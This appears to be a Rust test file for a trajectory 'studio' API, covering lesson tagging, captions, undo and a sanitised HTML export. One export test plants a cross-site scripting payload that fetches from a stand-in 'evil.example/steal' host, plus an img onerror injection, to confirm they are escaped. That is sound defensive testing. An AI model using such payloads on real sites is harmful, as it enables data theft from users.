//! Lessons: branches tagged into a lesson in order, captions as the states'
//! notes, the lesson view and its self-contained HTML export.

#[allow(dead_code)] // the shared helpers this file does not call
mod common;

use common::{OS, WEB, sample, studio};
use worldloom_api::types::*;
use worldloom_api::{ErrorCode, Studio, commands, dispatch};

fn import(studio: &Studio, rels: &[&str]) -> Vec<String> {
    let resp = commands::import_files(
        studio,
        ImportFilesRequest {
            paths: rels.iter().map(|r| sample(r)).collect(),
        },
    )
    .expect("import");
    rels.iter()
        .map(|rel| {
            resp.imported
                .iter()
                .find(|i| i.path == sample(rel))
                .map(|i| i.trajectory_id.clone())
                .expect("imported")
        })
        .collect()
}

fn recorded_leaf(studio: &Studio, id: &str) -> BranchSummary {
    commands::get_trajectory(
        studio,
        GetTrajectoryRequest {
            trajectory_id: id.into(),
        },
    )
    .expect("trajectory")
    .branches
    .into_iter()
    .find(|b| b.recorded)
    .expect("recorded")
}

fn add(studio: &Studio, lesson: &str, id: &str, branch: &str, present: bool) {
    let change = commands::add_to_lesson(
        studio,
        AddToLessonRequest {
            lesson: lesson.into(),
            trajectory_id: id.into(),
            branch_id: branch.into(),
            present,
        },
    )
    .expect("add to lesson");
    assert!(change.change.is_some());
}

fn caption(studio: &Studio, id: &str, node: u32, text: &str) -> ChangeResponse {
    commands::set_caption(
        studio,
        SetCaptionRequest {
            trajectory_id: id.into(),
            node_id: node,
            text: text.into(),
        },
    )
    .expect("caption")
}

fn lesson(studio: &Studio, name: &str) -> LessonView {
    commands::get_lesson(
        studio,
        LessonRequest {
            lesson: Some(name.into()),
            ..Default::default()
        },
    )
    .expect("lesson")
}

#[test]
fn a_lesson_is_tagged_branches_in_order_with_captions() {
    let (_dir, studio) = studio();
    let ids = import(&studio, &[WEB, OS]);
    let (web, os) = (&ids[0], &ids[1]);
    let web_main = recorded_leaf(&studio, web);
    let os_main = recorded_leaf(&studio, os);
    // A branch of the web trajectory at its second turn.
    let turns = commands::get_branch(
        &studio,
        GetBranchRequest {
            trajectory_id: web.clone(),
            branch_id: web_main.id.clone(),
        },
    )
    .expect("branch")
    .turns;
    let fork = commands::edit_action(
        &studio,
        EditActionRequest {
            trajectory_id: web.clone(),
            edge_id: turns[1].edge_id,
            raw: "noop()".into(),
        },
    )
    .expect("edit");

    // Order: as added; the OS branch goes first, then the web fork, then
    // the web recorded path. A branch added twice keeps its place.
    add(&studio, "intro", os, &os_main.id, true);
    add(&studio, "intro", web, &fork.branch_id, true);
    add(&studio, "intro", web, &web_main.id, true);
    add(&studio, "intro", os, &os_main.id, true);
    add(&studio, "other", web, &web_main.id, true);

    // Captions: a new note, then a new version of it; an empty one removes it.
    assert!(caption(&studio, web, 0, "The inbox").change.is_some());
    assert!(caption(&studio, web, 2, "first try").change.is_some());
    assert!(
        caption(&studio, web, 2, "The reply box opens")
            .change
            .is_some()
    );
    assert!(
        caption(&studio, web, 2, "The reply box opens")
            .change
            .is_none()
    );
    assert!(caption(&studio, os, 1, "gone soon").change.is_some());
    assert!(caption(&studio, os, 1, "  ").change.is_some());
    assert!(caption(&studio, os, 1, "").change.is_none());

    let lessons = commands::list_lessons(&studio, EmptyRequest {})
        .expect("lessons")
        .lessons;
    let names: Vec<(&str, u32)> = lessons
        .iter()
        .map(|l| (l.name.as_str(), l.branch_count))
        .collect();
    assert_eq!(names, vec![("intro", 3), ("other", 1)]);

    let view = lesson(&studio, " intro ");
    assert_eq!(view.title, "intro");
    assert_eq!(view.lesson.as_deref(), Some("intro"));
    let order: Vec<(&str, &str)> = view
        .branches
        .iter()
        .map(|b| (b.trajectory_id.as_str(), b.branch.id.as_str()))
        .collect();
    assert_eq!(
        order,
        vec![
            (os.as_str(), os_main.id.as_str()),
            (web.as_str(), fork.branch_id.as_str()),
            (web.as_str(), web_main.id.as_str()),
        ]
    );
    let fork_view = &view.branches[1];
    assert_eq!(fork_view.turns.len(), 2);
    assert_eq!(fork_view.turns[1].action.raw, "noop()");
    assert_eq!(fork_view.captions.len(), 3);
    assert_eq!(fork_view.captions[0].as_deref(), Some("The inbox"));
    // Node 2 is on the recorded path, not on the fork (which left at turn 2).
    assert_eq!(fork_view.captions[2], None);
    let web_view = &view.branches[2];
    assert_eq!(web_view.captions.len(), web_view.turns.len() + 1);
    assert_eq!(web_view.captions[2].as_deref(), Some("The reply box opens"));
    assert!(view.branches[0].captions.iter().all(Option::is_none));

    // Taking a branch out, and undoing the fork, leave the others in order.
    add(&studio, "intro", os, &os_main.id, false);
    let view = lesson(&studio, "intro");
    assert_eq!(view.branches.len(), 2);
    assert_eq!(view.branches[0].branch.id, fork.branch_id);
    // Undo down to the first two tags: the OS branch, then the fork.
    let history = commands::history(&studio, EmptyRequest {})
        .expect("history")
        .changes;
    let kinds: Vec<ChangeKind> = history.iter().take(9).map(|c| c.kind).collect();
    use ChangeKind::{AddNote, EditNote, SetTag};
    let expected = [
        SetTag, EditNote, AddNote, EditNote, AddNote, AddNote, SetTag, SetTag, SetTag,
    ];
    assert_eq!(kinds, expected);
    for _ in 0..9 {
        commands::undo(&studio, EmptyRequest {}).expect("undo");
    }
    let view = lesson(&studio, "intro");
    let order: Vec<&str> = view.branches.iter().map(|b| b.branch.id.as_str()).collect();
    assert_eq!(order, vec![os_main.id.as_str(), fork.branch_id.as_str()]);
    commands::undo(&studio, EmptyRequest {}).expect("undo");
    let view = lesson(&studio, "intro");
    assert_eq!(view.branches.len(), 1);
    assert_eq!(view.branches[0].trajectory_id, *os);
}

#[test]
fn one_branch_without_a_lesson_and_bad_requests() {
    let (_dir, studio) = studio();
    let ids = import(&studio, &[WEB]);
    let web = &ids[0];
    caption(&studio, web, 1, "Opened the mail");
    let view = commands::get_lesson(
        &studio,
        LessonRequest {
            trajectory_id: Some(web.clone()),
            ..Default::default()
        },
    )
    .expect("branch as lesson");
    assert_eq!(view.lesson, None);
    assert_eq!(view.branches.len(), 1);
    assert!(view.title.ends_with(" · recorded"), "{}", view.title);
    assert_eq!(
        view.branches[0].captions[1].as_deref(),
        Some("Opened the mail")
    );

    let code = |req: serde_json::Value| {
        dispatch(&studio, "get_lesson", req)
            .expect_err("refused")
            .code
    };
    assert_eq!(code(serde_json::json!({})), ErrorCode::BadRequest);
    assert_eq!(
        code(serde_json::json!({"lesson": " "})),
        ErrorCode::BadRequest
    );
    assert_eq!(
        code(serde_json::json!({"lesson": "none"})),
        ErrorCode::NotFound
    );
    assert_eq!(
        code(serde_json::json!({"trajectory_id": web, "branch_id": "999"})),
        ErrorCode::NotFound
    );
    let err = commands::add_to_lesson(
        &studio,
        AddToLessonRequest {
            lesson: "a\nb".into(),
            trajectory_id: web.clone(),
            branch_id: "0".into(),
            present: true,
        },
    )
    .expect_err("two lines");
    assert_eq!(err.code, ErrorCode::BadRequest);
    // Node 1 is inside the recorded path: not a branch.
    let err = commands::add_to_lesson(
        &studio,
        AddToLessonRequest {
            lesson: "a".into(),
            trajectory_id: web.clone(),
            branch_id: "1".into(),
            present: true,
        },
    )
    .expect_err("not a leaf");
    assert_eq!(err.code, ErrorCode::NotFound);
}

/// Every `href="…"` and `src="…"` value of `html`.
fn urls(html: &str) -> Vec<&str> {
    let mut out = Vec::new();
    for attr in ["href=\"", "src=\""] {
        let mut rest = html;
        while let Some(i) = rest.find(attr) {
            rest = &rest[i + attr.len()..];
            out.push(&rest[..rest.find('"').unwrap_or(rest.len())]);
        }
    }
    out
}

#[test]
fn the_export_is_one_file_with_every_turn_and_nothing_that_runs() {
    let (dir, studio) = studio();
    let ids = import(&studio, &[WEB, OS]);
    let (web, os) = (&ids[0], &ids[1]);
    let web_main = recorded_leaf(&studio, web);
    let os_main = recorded_leaf(&studio, os);
    add(&studio, "demo", web, &web_main.id, true);
    add(&studio, "demo", os, &os_main.id, true);
    let hostile = "<script>fetch('https://evil.example/steal')</script>\
                   <img src=\"https://evil.example/p.png\" onerror=\"alert(1)\">";
    commands::author_observation(
        &studio,
        AuthorObservationRequest {
            trajectory_id: web.clone(),
            node_id: 1,
            representation: Representation::Html,
            text: format!("<html><body>{hostile}</body></html>"),
            based_on_prediction: None,
            note: None,
        },
    )
    .expect("author");
    caption(&studio, web, 1, "Caption one <b>bold?</b>");
    caption(&studio, os, 2, "Caption of the OS turn");

    let path = dir.path().join("lesson.html");
    let out = commands::export_lesson(
        &studio,
        ExportLessonRequest {
            lesson: Some("demo".into()),
            path: Some(path.display().to_string()),
            ..Default::default()
        },
    )
    .expect("export");
    assert_eq!(out.file_name, "lesson-demo.html");
    assert!(out.content.is_none());
    let html = std::fs::read_to_string(&path).expect("read");
    assert_eq!(out.bytes, html.len() as u64);
    let view = lesson(&studio, "demo");
    let states: usize = view.branches.iter().map(|b| b.turns.len() + 1).sum();
    assert_eq!(out.sections as usize, states);
    assert!(states > 8, "{states}");
    for n in 1..=states {
        assert!(html.contains(&format!("id=\"s{n}\"")), "section {n}");
    }
    // Every action of every turn is there.
    for b in &view.branches {
        for t in &b.turns {
            let mut escaped = String::new();
            for c in t.action.raw.chars() {
                match c {
                    '&' => escaped.push_str("&amp;"),
                    '<' => escaped.push_str("&lt;"),
                    '>' => escaped.push_str("&gt;"),
                    '"' => escaped.push_str("&quot;"),
                    '\'' => escaped.push_str("&#39;"),
                    c => escaped.push(c),
                }
            }
            assert!(html.contains(&escaped), "action {}", t.action.raw);
        }
    }
    assert!(html.contains("<p class=\"caption\">Caption one &lt;b&gt;bold?&lt;/b&gt;</p>"));
    assert!(html.contains("<p class=\"caption\">Caption of the OS turn</p>"));
    assert!(html.contains("Predicted observation (authored)"));
    assert!(html.contains("&lt;script&gt;fetch(&#39;https://evil.example/steal&#39;)"));
    let lower = html.to_ascii_lowercase();
    assert!(!lower.contains("<script"));
    assert!(!lower.contains("<iframe") && !lower.contains("<img") && !lower.contains("<object"));
    let links = urls(&html);
    assert!(links.len() > 2 * states, "{}", links.len());
    assert!(links.iter().all(|u| u.starts_with('#')), "{links:?}");

    // Without a path the HTML comes back; one branch without a lesson too.
    let one = commands::export_lesson(
        &studio,
        ExportLessonRequest {
            trajectory_id: Some(os.clone()),
            ..Default::default()
        },
    )
    .expect("export branch");
    assert_eq!(one.file_name, "lesson-branch.html");
    let content = one.content.expect("content");
    assert_eq!(one.sections as usize, view.branches[1].turns.len() + 1);
    assert!(content.contains("Caption of the OS turn"));
    // A file that cannot be written is an export failure naming it.
    let err = commands::export_lesson(
        &studio,
        ExportLessonRequest {
            lesson: Some("demo".into()),
            path: Some(dir.path().join("no/such/dir/x.html").display().to_string()),
            ..Default::default()
        },
    )
    .expect_err("unwritable");
    assert_eq!(err.code, ErrorCode::ExportFailed);
    assert!(err.message.contains("x.html"), "{}", err.message);
}

#[test]
fn a_lesson_follows_a_branch_continued_past_its_leaf_and_a_tagged_trajectory() {
    let (_dir, studio) = studio();
    let ids = import(&studio, &[WEB, OS]);
    let (web, os) = (&ids[0], &ids[1]);
    let web_main = recorded_leaf(&studio, web);
    add(&studio, "l", web, &web_main.id, true);
    // Turns appended past the tagged leaf: the lesson shows the longer branch.
    let longer = commands::append_turn(
        &studio,
        AppendTurnRequest {
            trajectory_id: web.clone(),
            node_id: web_main.leaf_node,
            raw: "noop()".into(),
        },
    )
    .expect("append");
    let view = lesson(&studio, "l");
    assert_eq!(view.branches.len(), 1);
    assert_eq!(view.branches[0].branch.id, longer.branch_id);
    assert_eq!(view.branches[0].turns.len() as u32, web_main.turn_count + 1);
    assert_eq!(
        view.branches[0].captions.len(),
        view.branches[0].turns.len() + 1
    );
    commands::undo(&studio, EmptyRequest {}).expect("undo");
    assert_eq!(lesson(&studio, "l").branches[0].branch.id, web_main.id);

    // The tag set by hand on a trajectory takes each of its branches, after
    // the branches tagged before it.
    let fork = commands::edit_action(
        &studio,
        EditActionRequest {
            trajectory_id: os.clone(),
            edge_id: 0,
            raw: "pyautogui.press('esc')".into(),
        },
    )
    .expect("fork");
    commands::set_tag(
        &studio,
        SetTagRequest {
            trajectory_id: os.clone(),
            node_id: None,
            tag: "lesson:l".into(),
            present: true,
        },
    )
    .expect("tag");
    let view = lesson(&studio, "l");
    let order: Vec<(&str, &str)> = view
        .branches
        .iter()
        .map(|b| (b.trajectory_id.as_str(), b.branch.id.as_str()))
        .collect();
    let os_main = recorded_leaf(&studio, os);
    assert_eq!(
        order,
        vec![
            (web.as_str(), web_main.id.as_str()),
            (os.as_str(), os_main.id.as_str()),
            (os.as_str(), fork.branch_id.as_str()),
        ]
    );
    let listed = commands::list_lessons(&studio, EmptyRequest {})
        .expect("lessons")
        .lessons;
    assert_eq!(listed[0].name, "l");
    assert_eq!(listed[0].branch_count, 2, "two places carry the tag");
}
